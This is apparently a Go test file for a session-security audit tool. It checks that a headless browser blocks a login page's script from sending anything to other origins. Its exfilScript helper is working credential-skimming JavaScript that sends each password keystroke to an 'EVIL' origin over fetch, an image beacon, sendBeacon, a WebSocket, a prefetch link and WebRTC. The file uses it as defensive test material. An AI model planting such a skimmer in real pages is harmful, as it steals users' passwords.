package auditbrowser

import (
	"context"
	"errors"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"sync/atomic"
	"testing"

	"github.com/sessionguard/sessionguard/audit"
)

// collector is another origin that records every request reaching it
// (WebSocket handshakes included) and serves the login page's script.
type collector struct {
	*httptest.Server
	mu   sync.Mutex
	reqs []string
	js   string
}

func newCollector(t *testing.T) *collector {
	c := &collector{}
	c.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		c.mu.Lock()
		c.reqs = append(c.reqs, r.Method+" "+r.URL.Path)
		js := c.js
		c.mu.Unlock()
		if r.URL.Path == "/app.js" {
			w.Header().Set("Content-Type", "text/javascript")
			fmt.Fprint(w, js)
			return
		}
		w.WriteHeader(http.StatusNoContent)
	}))
	t.Cleanup(c.Close)
	return c
}

func (c *collector) requests() []string {
	c.mu.Lock()
	defer c.mu.Unlock()
	return append([]string(nil), c.reqs...)
}

// exfilScript builds the login form and sends what is typed to evil in
// every way a page can: a POST per keystroke, a base64 image URL, a
// beacon, a WebSocket, a prefetch on load, and WebRTC (STUN over UDP to
// stun, when given).
func exfilScript(evil string, stun ...string) string {
	rtc := ""
	if len(stun) > 0 {
		rtc = fmt.Sprintf(`try { var pc = new RTCPeerConnection({iceServers: [{urls: 'stun:%s'}]}); pc.createDataChannel(d); pc.createOffer().then(function (o) { return pc.setLocalDescription(o); }); } catch (e) {}`, stun[0])
	}
	return fmt.Sprintf(`(function () {
  var EVIL = %q;
  function rtc(d) { %s }
  function send(d) {
    try { fetch(EVIL + '/k', {method: 'POST', mode: 'no-cors', body: d}); } catch (e) {}
    try { new Image().src = EVIL + '/p.gif?d=' + btoa(unescape(encodeURIComponent(d))); } catch (e) {}
    try { navigator.sendBeacon(EVIL + '/b', d); } catch (e) {}
    try { var ws = new WebSocket(EVIL.replace('http', 'ws') + '/ws'); ws.onopen = function () { ws.send(d); }; } catch (e) {}
    rtc(d);
  }
  var l = document.createElement('link'); l.rel = 'prefetch'; l.href = EVIL + '/prefetch'; document.head.appendChild(l);
  send('loaded');
  setTimeout(function () {
    var f = document.createElement('form'); f.method = 'post'; f.action = '/session';
    f.innerHTML = '<input name="login" autocomplete="username"><input type="password" name="secret"><button>Sign in</button>';
    f.elements.secret.addEventListener('input', function () { send(f.elements.secret.value); });
    f.addEventListener('submit', function () { send(f.elements.secret.value); });
    document.getElementById('app').replaceChildren(f);
  }, 300);
})();`, evil, rtc)
}

// scriptSPA is newSPA with the login page's script given: inline, or
// loaded from src.
func scriptSPA(t *testing.T, inline, src string) *spa {
	s := newSPA(t, false, "")
	inner := s.Server.Config.Handler
	s.Server.Config.Handler = http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/login" && r.Method == http.MethodGet {
			w.Header().Set("Content-Type", "text/html; charset=utf-8")
			http.SetCookie(w, &http.Cookie{Name: "sid", Value: randID(), Path: "/", HttpOnly: true})
			if src != "" {
				fmt.Fprintf(w, `<!doctype html><title>Sign in</title><div id="app">Loading…</div><script src="%s"></script>`, src)
				return
			}
			fmt.Fprintf(w, `<!doctype html><title>Sign in</title><div id="app">Loading…</div><script>%s</script>`, inline)
			return
		}
		inner.ServeHTTP(w, r)
	})
	return s
}

// TestBrowserSendsNothingToOtherOrigins (WSTG-SESS, threat: a
// session-replay or analytics script on the login page): a page script
// that sends each keystroke, a base64 image URL, a beacon, a WebSocket
// message and a prefetch to another origin (another port of the same
// host) gets nothing there; the sign-in still works, and the report names
// the blocked origin with a count, never what the requests carried.
func TestBrowserSendsNothingToOtherOrigins(t *testing.T) {
	chromium(t)
	t.Parallel()
	evil := newCollector(t)
	udp, err := net.ListenPacket("udp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer udp.Close()
	var packets atomic.Int64
	go func() {
		buf := make([]byte, 2048)
		for {
			if _, _, err := udp.ReadFrom(buf); err != nil {
				return
			}
			packets.Add(1)
		}
	}()
	srv := scriptSPA(t, exfilScript(evil.URL, udp.LocalAddr().String()), "")
	tg := target(t, srv.URL)
	tg.NoWrongPasswordProbe = true
	rep, err := audit.Run(context.Background(), tg)
	if err != nil {
		t.Fatalf("Run: %v", err)
	}
	if got := evil.requests(); len(got) != 0 {
		t.Errorf("the other origin received %q", got)
	}
	if n := packets.Load(); n > 0 {
		t.Errorf("WebRTC sent %d UDP packets to another origin", n)
	}
	warned := false
	for _, w := range rep.Warnings {
		warned = warned || strings.Contains(w, evil.URL+" (")
	}
	if !warned {
		t.Errorf("no warning names the blocked origin %s: %q", evil.URL, rep.Warnings)
	}
	for _, out := range outputs(t, rep) {
		if l := leaks(out); l != "" {
			t.Errorf("an output shows the password as %q", l)
		}
	}
}

// TestBrowserLoadOnly: a login page whose form is built by a script from a
// CDN cannot sign in while the CDN is blocked (could not audit, naming the
// origin and both ways to allow it); with Driver.AllowLoadFrom the script
// loads, and nothing typed reaches the CDN, whatever the script tries.
func TestBrowserLoadOnly(t *testing.T) {
	chromium(t)
	t.Parallel()
	cdn := newCollector(t)
	cdn.js = exfilScript(cdn.URL)
	srv := scriptSPA(t, "", cdn.URL+"/app.js")

	tg := target(t, srv.URL)
	tg.NoWrongPasswordProbe = true
	rep, err := audit.Run(context.Background(), tg)
	if err == nil || rep.Verdict != audit.VerdictCouldNotAudit || !strings.Contains(err.Error(), cdn.URL) ||
		!strings.Contains(err.Error(), "AllowLoadFrom") || !strings.Contains(err.Error(), "AllowOrigins") {
		t.Fatalf("blocked CDN: %v (verdict %s), want could not audit naming %s and both allowances", err, rep.Verdict, cdn.URL)
	}
	// Both allowances are hints a command line can rename to its flags,
	// with the origin to add (ORIGIN when the browser also tried others).
	for _, field := range []string{"Driver.AllowLoadFrom", "Target.AllowOrigins"} {
		found := false
		for _, h := range audit.Hints(err.Error()) {
			found = found || h.Type+"."+h.Field == field && h.Verb == "add" && (h.Value == cdn.URL || h.Value == "ORIGIN")
		}
		if !found {
			t.Errorf("the error lacks the hint to add %s or ORIGIN to %s: %v", cdn.URL, field, err)
		}
	}
	if got := cdn.requests(); len(got) != 0 {
		t.Errorf("the blocked CDN received %q", got)
	}

	tg = target(t, srv.URL)
	tg.NoWrongPasswordProbe = true
	tg.SignIn.(*Driver).AllowLoadFrom = []string{cdn.URL}
	rep, err = audit.Run(context.Background(), tg)
	if err != nil {
		t.Fatalf("load-only CDN: %v", err)
	}
	for _, r := range cdn.requests() {
		if r != "GET /app.js" {
			t.Errorf("the load-only CDN received %s", r)
		}
	}
	if c, _ := rep.Check(audit.IDFixation); c.Status != audit.StatusPass {
		t.Errorf("fixation %s: %q", c.Status, c.Evidence)
	}
	if errors.Is(err, audit.ErrUnsafeSignIn) {
		t.Errorf("unexpected: %v", err)
	}
}
